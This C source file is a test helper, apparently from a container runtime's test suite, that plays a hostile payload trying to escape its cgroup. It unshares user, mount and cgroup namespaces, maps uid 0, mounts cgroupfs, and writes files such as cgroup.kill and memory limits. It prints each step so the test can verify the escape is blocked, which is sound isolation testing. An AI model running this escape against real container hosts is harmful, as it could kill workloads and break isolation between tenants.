/* SPDX-License-Identifier: GPL-2.0-or-later */
/* cg-escape: what a hostile payload does to reach cgroups that are not its own (issue 7,
 * escapes 3 and 4). It makes a user namespace in which it is root (uid_map "0 0 1": host
 * root, so file permissions on cgroupfs let it write anything it can reach), with its own
 * mount and cgroup namespaces, mounts a cgroup hierarchy and writes the given files.
 *
 *   cg-escape DIR FSTYPE OPTIONS [FILE=VALUE | +GROUP]...
 *   cg-escape /tmp/cg cgroup2 none cgroup.kill=1
 *   cg-escape /tmp/cg cgroup memory memory.limit_in_bytes=-1
 *   cg-escape /tmp/cg cgroup pids +sub sub/cgroup.procs=$$     (+GROUP: mkdir)
 *
 * Prints one line per step ("mount: ok", "cgroup.kill: Permission denied") and the groups it
 * can see, so the test can tell what happened. Built static: it runs in a busybox layer. */
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int write_file(const char *path, const char *value) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    ssize_t n = write(fd, value, strlen(value));
    int r = n < 0 ? -errno : 0;
    close(fd);
    return r;
}

static void list_groups(const char *dir, const char *rel, int depth) {
    DIR *d = opendir(dir);
    if (!d)
        return;
    for (struct dirent *e; (e = readdir(d));) {
        char path[4096], sub[4096];
        if (e->d_type != DT_DIR || e->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        snprintf(sub, sizeof sub, "%s/%s", rel, e->d_name);
        printf("visible: %s\n", sub);
        if (depth < 4)
            list_groups(path, sub, depth + 1);
    }
    closedir(d);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0); /* a successful cgroup.kill ends us mid-way */
    if (argc < 4) {
        fprintf(stderr, "usage: cg-escape DIR FSTYPE OPTIONS [FILE=VALUE | +GROUP]...\n");
        return 2;
    }
    const char *dir = argv[1], *type = argv[2], *opts = argv[3];
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
        printf("unshare: %s\n", strerror(errno));
        return 1;
    }
    int r = write_file("/proc/self/setgroups", "deny");
    if (r >= 0)
        r = write_file("/proc/self/uid_map", "0 0 1");
    if (r >= 0)
        r = write_file("/proc/self/gid_map", "0 0 1");
    if (r < 0) {
        printf("id map: %s\n", strerror(-r));
        return 1;
    }
    printf("unshare: ok\n");
    if (mkdir(dir, 0755) < 0 && errno != EEXIST) {
        printf("mkdir %s: %s\n", dir, strerror(errno));
        return 1;
    }
    if (mount(type, dir, type, 0, strcmp(opts, "none") == 0 ? NULL : opts) < 0) {
        printf("mount: %s\n", strerror(errno));
        return 1;
    }
    printf("mount: ok\n");
    list_groups(dir, "", 0);
    int failed = 0;
    for (int i = 4; i < argc; i++) {
        char path[4096];
        char *eq = strchr(argv[i], '=');
        if (argv[i][0] == '+') {
            snprintf(path, sizeof path, "%s/%s", dir, argv[i] + 1);
            r = mkdir(path, 0755) < 0 ? -errno : 0;
            printf("mkdir %s: %s\n", argv[i] + 1, r < 0 ? strerror(-r) : "ok");
            failed |= r < 0;
            continue;
        }
        if (!eq)
            continue;
        *eq = 0;
        snprintf(path, sizeof path, "%s/%s", dir, argv[i]);
        printf("%s: writing\n", argv[i]);
        r = write_file(path, eq + 1);
        printf("%s: %s\n", argv[i], r < 0 ? strerror(-r) : "ok");
        failed |= r < 0;
    }
    return failed;
}
